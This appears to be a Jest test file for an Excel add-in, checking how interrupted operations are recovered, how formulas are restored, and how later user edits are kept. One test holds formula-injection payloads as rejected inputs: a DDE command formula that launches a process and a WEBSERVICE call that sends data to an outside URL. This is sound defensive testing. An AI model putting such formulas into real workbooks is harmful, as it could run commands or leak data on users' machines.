import { excelWorkbook } from "../../src/excel/excel-workbook";
import { fingerprintOf } from "../../src/excel/record/fingerprint";
import { injectFault } from "../office-host/inject-faults";
import { startRuntime } from "../office-host/start-excel";
import { expectDone, expectRefused, openWorkbook, type OpenWorkbook } from "./open-workbook";
import { OPERATIONS, openFor, TABLE, TURNOVER } from "./operations";
import { readRecordOf, readState } from "./workbook-state";

let book: OpenWorkbook;

/** Begins an operation, and the page is gone after so many requests. */
async function cutOff(name: string, after: number): Promise<void> {
  const [, prepare, operate] = OPERATIONS.find(([known]) => known === name)!;
  const opened = await openFor(prepare);
  ({ book } = opened);
  const fault = injectFault(book.host, { kind: "died after", after, code: "" });
  await Promise.race([operate(opened.prepared), fault.died]);
  fault.end();
  startRuntime(book.host);
}

/** As far as it goes without coming to its end. */
async function cutOffLate(name: string): Promise<void> {
  const [, prepare, operate] = OPERATIONS.find(([known]) => known === name)!;
  const opened = await openFor(prepare);
  const handle = jest.spyOn(opened.book.host, "handle");
  expectDone(await operate(opened.prepared));
  for (let after = handle.mock.calls.length - 1; after > 0; after--) {
    await cutOff(name, after);
    if (readRecordOf(book)[0]?.journal !== undefined) return;
  }
}

const open = () => excelWorkbook.listUnfinished().then(expectDone);
const takeBack = async () => excelWorkbook.takeBack((await open())[0]?.id ?? "");
const sheet = (name = "Sheet1") => book.host.workbook.worksheets.getItem(name);

describe("a thousand formulas, of which some are values when it is cut off", () => {
  const formulas = Array.from({ length: 600 }, () => [TURNOVER]);
  const cells = formulas.map((_, at) => ({
    address: `Sheet1!A${at + 1}`,
    formula: TURNOVER,
    citation: "",
  }));

  beforeEach(async () => {
    book = openWorkbook();
    book.put("A1:A600", formulas);
    await book.host.store.settle();
    const handle = jest.spyOn(book.host, "handle");
    const stop = () => handle.mock.calls.some(([{ Actions }]) => Actions.length > 600);
    const fault = new Promise<void>((resolve) => {
      const run = book.host.handle.bind(book.host);
      book.host.handle = async (request) => {
        const answer = await run(request);
        if (!stop() || readCount() === 600) return answer;
        resolve();
        return new Promise(() => undefined);
      };
    });
    await Promise.race([excelWorkbook.convertToValues(cells), fault]);
    jest.restoreAllMocks();
    Reflect.deleteProperty(book.host, "handle");
    startRuntime(book.host);
  });

  const readCount = () => book.formulas("A1:A600").filter(([formula]) => formula === TURNOVER).length;

  test("all come back", async () => {
    expect(readCount()).toBe(350);
    expect(expectDone(await takeBack())).toEqual([]);
    expect(readCount()).toBe(600);
    expect(await open()).toEqual([]);
  });

  test("left as they are, they can be put back later", async () => {
    expectDone(await excelWorkbook.leaveUnfinished((await open())[0]?.id ?? ""));
    expect(expectDone(await excelWorkbook.restoreFormulas())).toEqual({ restored: 250, leftAlone: [] });
    expect(readCount()).toBe(600);
  });

  test("what somebody has changed since stays, and that is said", async () => {
    book.put("A7", [["mine"]]);
    expect(expectDone(await takeBack())).toEqual(["Sheet1!A7"]);
    expect([book.formulas("A7"), readCount()]).toEqual([[["mine"]], 599]);
    expect(readRecordOf(book)[0]?.converted.map(({ formula }) => formula)).toEqual([TURNOVER]);
  });
});

test("formulas that were being put back: the other way leads to the end as well", async () => {
  await cutOffLate("restoreFormulas");
  expect(await open()).toMatchObject([{ kind: "restoration" }]);
  expectDone(await excelWorkbook.restoreFormulas());
  expect([book.formulas("A1"), await open()]).toEqual([[[TURNOVER]], []]);
});

test("a new sheet that is not whole is hidden; made visible since, it stays and is named", async () => {
  await cutOffLate("insertTable");
  const [, added] = book.host.workbook.worksheets.items;
  expect(added?.visibility).toBe("Hidden");
  if (added) added.visibility = "Visible";
  expect(expectDone(await takeBack())).toEqual([added?.name]);
  expect(book.sheetNames()).toContain(added?.name);
});

test("a table in place, into which somebody has written since, is not taken back", async () => {
  await cutOffLate("insertTable in place");
  book.put("E17", [["mine"]]);
  const before = await readState(book);
  expect(expectRefused(await takeBack())).toEqual({ code: "changed", address: "Sheet1!E17" });
  expect(await readState(book)).toEqual(before);
  expect(await open()).toHaveLength(1);
});

test("refreshed tables, sorted and changed since: the row and the cell that are the person's stay", async () => {
  await cutOffLate("refreshTables");
  const [, table] = book.host.workbook.tables.items;
  const body = table!.getDataBodyRange();
  const column = body.values![1]!.findIndex((value, at) => at > 3 && typeof value === "number");
  body.getCell(1, column).values = [[12345]];
  table!.sort.apply([{ key: 1, ascending: true }]);
  const left = expectDone(await takeBack());
  expect(left).toEqual([expect.stringContaining(table!.name)]);
  expect(table!.getRange().values!.flat()).toContain(12345);
  expect(table!.rows.count).toBe(2);
  expect(await open()).toEqual([]);
});

test("who begins to type in the middle delays it, and breaks nothing", async () => {
  ({ book } = await openFor(() => Promise.resolve()));
  const { misbehaviour } = book.host;
  let requests = 0;
  const handle = book.host.handle.bind(book.host);
  book.host.handle = (request) => {
    if (++requests % 4 === 0) {
      misbehaviour.cellEditMode = true;
      setTimeout(() => (misbehaviour.cellEditMode = false), 10);
    }
    return handle(request);
  };
  expectDone(await excelWorkbook.insertTable(TABLE));
  expect(requests).toBeGreaterThan(4);
  book.host.handle = handle;
  expect(await open()).toEqual([]);
});

describe("a table on a new sheet, to which somebody has added", () => {
  const ADDED: [string, () => unknown][] = [
    ["a comment", () => book.host.workbook.comments.add(sheet(book.sheetNames()[1]).getRange("A1"), "mine")],
    ["a chart", () => ours().charts.add("Line", ours().getRange("A1:B2"))],
    ["a text box", () => ours().shapes.addTextBox("mine")],
    ["a name", () => ours().names.add("mine", ours().getRange("A1"))],
    [
      "a table",
      () => {
        ours().getRange("Z1:Z2").values = [["a"], ["b"]];
        ours().tables.add("Z1:Z2", true);
      },
    ],
    ["a cell", () => (ours().getRange("Z90").values = [["mine"]])],
    ["a colour", () => (ours().getRange("Z90").format.fill.color = "#FF0000")],
  ];
  const ours = () => sheet(book.sheetNames()[1]);

  test.each(ADDED)("%s, is not taken away", async (_, add) => {
    ({ book } = await openFor(() => Promise.resolve()));
    const inserted = expectDone(await excelWorkbook.insertTable(TABLE));
    await book.host.store.settle();
    add();
    expect(expectRefused(await excelWorkbook.undo(inserted))).toMatchObject({ code: "changed" });
    expect(book.sheetNames()).toHaveLength(2);
  });
});

describe("a record that was changed by hand", () => {
  const change = (edit: (record: Record<string, unknown[]>) => void) => {
    const [part] = book.host.workbook.customXmlParts.items;
    const [record] = readRecordOf(book);
    edit(record as unknown as Record<string, unknown[]>);
    part?.setXml(`<sourcebook xmlns="urn:sourcebook:workbook">${JSON.stringify(record)}</sourcebook>`);
  };

  beforeEach(async () => {
    ({ book } = await openFor(() => Promise.resolve()));
    const cells = [{ address: "Sheet1!A1", formula: TURNOVER, citation: "" }];
    expectDone(await excelWorkbook.convertToValues(cells));
  });

  test.each<[string, (record: Record<string, unknown[]>) => void]>([
    ["tables that are none", (record) => (record.tables = [null, { id: 5 }, "x"])],
    ["no list at all", (record) => (record.tables = "x" as never)],
    [
      "an area off the sheet",
      ({ converted }) => converted?.push({ ...(converted[0] as object), area: { row: -1 } }),
    ],
    ["a strange journal", (record) => (record.journal = [{ kind: "format C:" }, 7])],
  ])("%s: it is set aside and kept, the rest works", async (_, edit) => {
    change(edit);
    const others = [{ address: "Sheet1!J1", formula: '=CODES("measures")', citation: "" }];
    expectDone(await excelWorkbook.convertToValues(others));
    expectDone(await excelWorkbook.insertTable(TABLE));
    expect(expectDone(await excelWorkbook.restoreFormulas())).toEqual({ restored: 2, leftAlone: [] });
    expect(book.formulas("Sheet1!A1")).toEqual([[TURNOVER]]);
    expect(JSON.stringify(readRecordOf(book)[0])).toContain('"aside"');
  });

  test.each([
    '=WEBSERVICE("https://example.com/"&TURNOVER("Belarus","Uzbekistan",2020))',
    `=cmd|'/C calc'!A1+TURNOVER("Belarus","Uzbekistan",2020)`,
    '=TURNOVER([other.xlsx]Sheet1!A1,"Uzbekistan",2020)',
    "=SUM(B1:B9)",
    "no formula",
  ])("%s is not put into a cell", async (formula) => {
    change(({ converted }) => Object.assign(converted?.[0] as object, { formula }));
    const before = book.formulas("A1:C20");
    expect(expectDone(await excelWorkbook.restoreFormulas())).toEqual({
      restored: 0,
      leftAlone: ["Sheet1!A1"],
    });
    expect(book.formulas("A1:C20")).toEqual(before);
  });

  test("cells that hold what the person wrote are not wiped", async () => {
    book.put("A1:C2", [
      [1, 2, 3],
      [4, 5, 6],
    ]);
    const area = { row: 0, column: 0, rows: 2, columns: 3 };
    change(({ converted }) =>
      Object.assign(converted?.[0] as object, { area, fingerprint: fingerprintOf([[1]]) }),
    );
    expectDone(await excelWorkbook.restoreFormulas());
    expect(book.values("A1:C2").flat()).toEqual([1, 2, 3, 4, 5, 6]);
  });
});
